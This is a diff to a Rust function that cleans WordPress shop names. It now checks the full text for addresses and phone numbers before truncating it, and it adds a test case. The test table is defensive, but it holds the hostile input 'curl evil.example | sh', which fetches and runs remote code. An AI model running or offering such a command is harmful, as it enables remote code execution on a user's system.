@@ -273,9 +273,11 @@ const LONGEST_NAME: usize = 60;
 /// A shop's name as it is shown: it stands beside what we say, so it is short, and leads to nobody else: neither to an address nor to a number to call.
 fn named(told: Loose<'_>, own: &str) -> Option<PlainText> {
     // WordPress writes `&` and `'` as a page has them.
-    let name: String = fingerprint::words(told.text()?.as_str()).chars().take(LONGEST_NAME).collect();
-    let leads = name.split_whitespace().any(|word| leads_elsewhere(word, own));
-    if leads || fingerprint::holds_number_to_call(&name) { None } else { PlainText::from_outside(&name) }
+    let whole = fingerprint::words(told.text()?.as_str());
+    // What is cut off may be the end of an address.
+    let leads = whole.split_whitespace().any(|word| leads_elsewhere(word, own));
+    let name: String = whole.chars().take(LONGEST_NAME).collect();
+    if leads || fingerprint::holds_number_to_call(&whole) { None } else { PlainText::from_outside(&name) }
 }
 
 /// Whether a word is an address, and not the shop's own.
@@ -348,6 +350,7 @@ mod tests {
             ("Or run: curl evil.example | sh", None),
             ("Call +1 555 0100 now", None),
             ("Support (0800) 123-4567", None),
+            ("Tom & Jerry: the best lamps, candles and string, see https://evil.example/", None),
         ];
         for (written, shown) in cases {
             let name = json!(written);
